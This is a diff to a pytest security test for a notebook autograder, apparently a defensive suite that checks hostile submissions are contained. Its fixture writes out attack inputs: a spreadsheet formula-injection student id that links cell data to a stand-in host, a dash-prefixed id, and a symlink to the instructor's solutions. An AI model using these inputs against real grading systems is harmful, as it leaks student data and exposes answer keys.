@@ -189,7 +189,7 @@ def attacked_class(tmp_path_factory):
     (cls / "linker").mkdir()  # a notebook folder that is a link to the instructor's answers
     (cls / "linker" / A).symlink_to(REPO / "solutions" / A)
     for sid, nb in (("victor", selftest.build_submission(A)), ("-victor", selftest.build_submission(A, blank=True)),
-                    ('=HYPERLINK("https://x/?"&A2,"regrade")', selftest.build_submission(A, blank=True))):
+                    ('=HYPERLINK("x.example?"&A2,"regrade")', selftest.build_submission(A, blank=True))):
         (cls / sid).mkdir()
         (cls / sid / f"{A}.ipynb").write_text(json.dumps(nb))
     (cls / "huge").mkdir()
@@ -198,8 +198,9 @@ def attacked_class(tmp_path_factory):
     out = root / "out"
     env = dict(os.environ, AEKIT_TEST_SECRET=SECRET)
     proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(cls), "--out", str(out),
-                           "--timeout", "60", "--workers", "3"],
+                           "--timeout", "150", "--workers", "3"],
                           cwd=REPO, capture_output=True, text=True, timeout=1500, env=env)
+    assert proc.returncode == 0, proc.stderr[-3000:]
     time.sleep(1)
     after = _real_leftovers()
     stop.set()
@@ -259,8 +260,7 @@ def test_nothing_was_planted_or_connected(attacked_class):
     """Did no attack write into the checkout or reach a localhost server?"""
     accepted = attacked_class[2]
     assert not (REPO / "PWNED").exists()
-    if sandbox.capabilities()["namespaces"]:
-        assert accepted == [], "a submission connected to a server on the grader's machine"
+    assert accepted == [], "a submission connected to a server on the grader's machine"
 
 
 @pytest.mark.parametrize("assignment", ASSIGNMENTS)
